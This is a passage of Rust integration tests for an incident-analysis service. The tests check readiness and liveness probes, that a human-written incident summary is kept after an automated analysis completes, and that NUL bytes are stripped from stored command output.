    let ingress = aurora_runtime::Readiness::new(pool, bus.bus.clone()).without_database();
    assert!(ingress.check_alive().await.is_ok());
    assert_eq!(ingress.check().await, Ok(()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_persons_summary_is_kept_when_an_analysis_completes_after_the_edit() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let mut conn = h.db.connect().await;
    let lease = claim_idle(&mut conn, incident_id).await;
    // While the analysis runs, the on-call engineer writes what they found.
    let written = "Disk filled by a runaway audit log; rotated by hand at 03:12.";
    incidents::edit(
        &mut conn,
        incident_id,
        None,
        Some(written),
        "oncall",
        aurora_db::time::now(),
    )
    .await
    .unwrap();
    // Changing only the tab later does not forget who wrote the summary.
    incidents::edit(
        &mut conn,
        incident_id,
        Some(aurora_domain::ActiveTab::Chat),
        None,
        "oncall",
        aurora_db::time::now(),
    )
    .await
    .unwrap();
    let completed = analysis::complete(&mut conn, lease, "Likely cause: disk full")
        .await
        .unwrap()
        .expect("the lease holder completes");
    assert_eq!(completed.aurora_summary.as_deref(), Some(written));
    assert_eq!(completed.aurora_status.as_deref(), Some("complete"));
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    assert!(
        thoughts
            .iter()
            .any(|t| t.kind == "conclusion" && t.content.contains("Likely cause: disk full")),
        "the analysis' summary is kept as a thought: {thoughts:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_busy_pool_is_no_reason_to_report_not_live() {
    let db = aurora_testkit::TestDb::new().await;
    let bus = aurora_testkit::TestBus::new().await;
    let options = |name: &str| aurora_db::pool::PoolOptions {
        max_size: 1,
        statement_timeout: std::time::Duration::from_secs(1),
        application_name: name.to_owned(),
        timeout: std::time::Duration::from_millis(200),
    };
    let work = aurora_db::pool::build(db.url(), options("aurora-test-work")).unwrap();
    let probe = aurora_db::pool::build(db.url(), options("aurora-test-probe")).unwrap();
    let readiness = aurora_runtime::Readiness::new(work.clone(), bus.bus.clone())
        .with_database_liveness(probe, std::time::Duration::from_millis(1));
    // Every connection of the service's pool is held by its work.
    let _held = work.get().await.unwrap();
    assert_eq!(readiness.check().await, Err("postgres"), "not ready");
    for _ in 0..3 {
        assert_eq!(readiness.check_alive().await, Ok(()), "but alive");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn command_output_holding_a_nul_is_stored_without_it_and_the_analysis_completes() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let analyst = analyst_running(&h, &[&["printf", "used\\0full"]]);
    assert_eq!(
        h.investigator(analyst)
            .investigate(incident_id)
            .await
            .unwrap(),
        InvestigationOutcome::Completed,
        "PostgreSQL refuses a NUL in text: kept, it would fail the analysis for ever"
    );
    let mut conn = h.db.connect().await;
    let runs = analysis::command_runs(&mut conn, incident_id)
        .await
        .unwrap();
    assert_eq!(runs[0].output, "usedfull");
}
